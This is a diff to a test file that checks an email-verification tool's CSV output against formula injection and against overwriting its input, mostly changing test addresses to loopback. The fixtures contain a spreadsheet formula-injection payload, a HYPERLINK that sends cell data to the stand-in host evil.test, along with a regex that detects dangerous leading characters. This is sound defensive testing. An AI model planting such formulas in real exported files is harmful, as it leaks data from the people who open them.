@@ -70,9 +70,11 @@ const DANGEROUS = /^[=+\-@\t\r]/;
 describe('attack 2: CSV formula injection and control bytes', () => {
   it('rcpt bulk CSV: every cell that would start a formula starts with a quote, control bytes are escaped; --csv-formulas keep writes them as they are; NDJSON keeps exact values', async () => {
     const input = join(dir, 'f.csv');
+    // Every address is at the test's own MX, so each row has the hostile reply and the run takes a
+    // fraction of a second (no address off this machine: a probe of one would really leave it).
     await writeFile(
       input,
-      'name,email,note\n"=HYPERLINK(""http://evil.test/?d=""&B2,""Click"")",=1+1@[192.0.2.1],+cmd\n@SUM(1),user@[127.9.7.1],-2\n"\ttab",\tt@[192.0.2.1],"\rcr"\n',
+      'name,email,note\n"=HYPERLINK(""http://evil.test/?d=""&B2,""Click"")",=1+1@[127.9.7.1],+cmd\n@SUM(1),user@[127.9.7.1],-2\n"\ttab",\tt@[127.9.7.1],"\rcr"\n',
     );
     const out = join(dir, 'f-out.csv');
     const run = await bulk([input, '-o', out, '--db', join(dir, 'f.db')]);
@@ -85,7 +87,7 @@ describe('attack 2: CSV formula injection and control bytes', () => {
     const dangerous = cells.filter((cell) => DANGEROUS.test(cell));
     assert.deepEqual(dangerous, [], 'no cell starts a formula');
     assert.ok(cells.includes(`'=HYPERLINK("http://evil.test/?d="&B2,"Click")`), 'the user column, quoted');
-    assert.ok(cells.includes(`'=1+1@[192.0.2.1]`), 'the address, quoted');
+    assert.ok(cells.includes(`'=1+1@[127.9.7.1]`), 'the address, quoted');
     assert.ok(cells.includes("'+cmd") && cells.includes("'@SUM(1)") && cells.includes("'-2"));
     const message = cells.find((cell) => cell.includes('HYPERLINK("http://evil.test/?"&A2'));
     assert.equal(
@@ -107,7 +109,7 @@ describe('attack 2: CSV formula injection and control bytes', () => {
     assert.equal(keep.code, 0, keep.stderr);
     const rawRows: string[][] = parse(await readFile(raw, 'utf8'), { relax_column_count: true });
     const rawCells = rawRows.flat();
-    assert.ok(rawCells.includes('=1+1@[192.0.2.1]') && rawCells.includes('-2'), 'kept as they are');
+    assert.ok(rawCells.includes('=1+1@[127.9.7.1]') && rawCells.includes('-2'), 'kept as they are');
 
     const json = join(dir, 'f-out.ndjson');
     const nd = await bulk([input, '-o', json, '--db', join(dir, 'f-nd.db')]);
@@ -116,7 +118,7 @@ describe('attack 2: CSV formula injection and control bytes', () => {
       .trim()
       .split('\n')
       .map((line) => JSON.parse(line) as { input: string; smtp: { reply: { text: string } | null } | null });
-    assert.equal(records[0]?.input, '=1+1@[192.0.2.1]', 'NDJSON keeps the exact value');
+    assert.equal(records[0]?.input, '=1+1@[127.9.7.1]', 'NDJSON keeps the exact value');
     assert.ok(records.some((record) => record.smtp?.reply?.text.startsWith('=HYPERLINK') === true));
   });
 });
@@ -124,7 +126,7 @@ describe('attack 2: CSV formula injection and control bytes', () => {
 describe('attack 4: the output is the input', () => {
   it('-o INPUT, through a symlink, a hard link or another path to it: exit 64 before anything is written, the file untouched', async () => {
     const input = join(dir, 'mal.csv');
-    const content = 'name,email\nAlice,"broken\nBob,bob@[192.0.2.1]\n';
+    const content = 'name,email\nAlice,"broken\nBob,bob@[127.9.7.2]\n';
     await writeFile(input, content);
     await symlink(input, join(dir, 'mal-link.csv'));
     await link(input, join(dir, 'mal-hard.csv'));
